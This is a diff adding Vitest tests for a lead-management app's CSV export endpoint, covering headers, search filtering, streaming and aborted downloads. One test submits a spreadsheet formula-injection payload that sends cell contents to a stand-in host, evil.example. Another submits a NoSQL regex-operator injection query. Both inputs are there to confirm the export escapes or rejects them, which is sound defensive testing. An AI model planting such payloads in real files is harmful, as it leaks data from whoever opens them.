@@ -1,0 +1,126 @@
+import { expect, test } from 'vitest';
+import type { Caller } from '../support/caller';
+import { make } from '../support/make';
+import { startApp } from '../support/start-app';
+
+const path = '/api/exports/clients.csv';
+const header =
+  'id,createdAt,firstName,lastName,email,phoneNumber,caseType,status,statusReason,additionalInfo,ip_address,jornaya_ip';
+
+const firstNames = async (admin: Caller, query = '') =>
+  (await admin.get(`${path}${query}`)).text
+    .trimEnd()
+    .split('\r\n')
+    .slice(1)
+    .map((row) => row.split(',')[2]);
+
+test('the export is a CSV file of all leads, newest first', async () => {
+  await using app = await startApp();
+  const { body: lead } = await app.anyone.post(
+    '/api/clients',
+    make.client({ jornaya_ip: 'j', additionalInfo: 'Hello' }),
+  );
+  await app.anyone.post('/api/clients', make.client({ firstName: 'Ana' }));
+  const admin = await app.signInAsAdmin();
+  const file = await admin.get(path);
+  expect(file.status).toBe(200);
+  expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+  expect(file.headers.get('content-disposition')).toBe('attachment; filename=clients.csv');
+  expect(file.headers.get('cache-control')).toBe('no-store');
+  const rows = file.text.split('\r\n');
+  expect(rows[0]!.replace('\uFEFF', '')).toBe(header);
+  expect(rows[1]).toContain('Ana');
+  expect(rows[2]).toBe(
+    `${lead.id},${lead.createdAt},Maria,Lopez,maria.lopez@example.com,(415) 555-0132,1,New,,Hello,203.0.113.7,j`,
+  );
+  expect(rows.slice(3)).toEqual(['']);
+});
+
+test('the file begins with the mark by which a spreadsheet knows UTF-8', async () => {
+  await using app = await startApp();
+  const admin = await app.signInAsAdmin();
+  const response = await fetch(`${app.url}${path}`, { headers: admin.headers });
+  const bytes = Buffer.from(await response.arrayBuffer());
+  expect(bytes.subarray(0, 3).toString('hex')).toBe('efbbbf');
+});
+
+test('the export holds what the current search shows, in its order', async () => {
+  await using app = await startApp();
+  for (const firstName of ['Ben', 'Ana', 'Cem'])
+    await app.anyone.post('/api/clients', make.client({ firstName, email: `${firstName}@example.com` }));
+  const admin = await app.signInAsAdmin();
+  const { id } = (await admin.get('/api/clients?search=cem')).body[0];
+  await admin.put(`/api/clients/${id}`, { status: 'Signed' });
+  expect(await firstNames(admin)).toEqual(['Cem', 'Ana', 'Ben']);
+  expect(await firstNames(admin, '?search=AN')).toEqual(['Ana']);
+  expect(await firstNames(admin, '?search=.*')).toEqual([]);
+  expect(await firstNames(admin, '?status=Signed')).toEqual(['Cem']);
+  expect(await firstNames(admin, '?sort=firstName&order=asc')).toEqual(['Ana', 'Ben', 'Cem']);
+});
+
+test('a formula that somebody sent is text in the file', async () => {
+  await using app = await startApp();
+  const evil = '=HYPERLINK("https://evil.example?"&A1,"x")';
+  await app.anyone.post(
+    '/api/clients',
+    make.client({ firstName: evil, phoneNumber: '+1 415 555 0132', lastName: 'a,"b"\nc' }),
+  );
+  const admin = await app.signInAsAdmin();
+  const { text } = await admin.get(path);
+  expect(text).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`);
+  expect(text).toContain(`,'+1 415 555 0132,`);
+  expect(text).toContain('"a,""b""\nc"');
+});
+
+test('a search that is wrong is a bad request', async () => {
+  await using app = await startApp();
+  const admin = await app.signInAsAdmin();
+  for (const query of [
+    'sort=requestHash',
+    'status=x',
+    'search=a&search=b',
+    'assignedTo=x',
+    'search[$regex]=.&order=up',
+  ])
+    expect([query, (await admin.get(`${path}?${query}`)).status]).toEqual([query, 400]);
+});
+
+test('many leads come in pieces, and all of them come', async () => {
+  await using app = await startApp();
+  const { body } = await app.anyone.post('/api/clients', make.client());
+  const first = await app.models.clients.findById(body.id).lean();
+  const copies = Array.from({ length: 3000 }, (_, index) => {
+    const { _id, ...copy } = first!;
+    return { ...copy, additionalInfo: `${index} ${'x'.repeat(500)}` };
+  });
+  await app.models.clients.collection.insertMany(copies as never[]);
+  const admin = await app.signInAsAdmin();
+  const response = await fetch(`${app.url}${path}`, { headers: admin.headers });
+  expect(response.headers.get('content-length')).toBeNull();
+  let pieces = 0;
+  let rows = 0;
+  for await (const piece of response.body!) {
+    pieces++;
+    rows += Buffer.from(piece).toString().split('\r\n').length - 1;
+  }
+  expect(rows).toBe(3002);
+  expect(pieces).toBeGreaterThan(3);
+});
+
+test('somebody who leaves in the middle of an export does not disturb the others', async () => {
+  await using app = await startApp();
+  const { body } = await app.anyone.post('/api/clients', make.client());
+  const first = await app.models.clients.findById(body.id).lean();
+  const copies = Array.from({ length: 2000 }, () => {
+    const { _id, ...copy } = first!;
+    return { ...copy, additionalInfo: 'x'.repeat(2000) };
+  });
+  await app.models.clients.collection.insertMany(copies as never[]);
+  const admin = await app.signInAsAdmin();
+  const abort = new AbortController();
+  const response = await fetch(`${app.url}${path}`, { headers: admin.headers, signal: abort.signal });
+  await response.body!.getReader().read();
+  abort.abort();
+  expect((await admin.get('/api/clients?limit=1')).status).toBe(200);
+  expect(await firstNames(admin, '?search=nobody')).toEqual([]);
+});
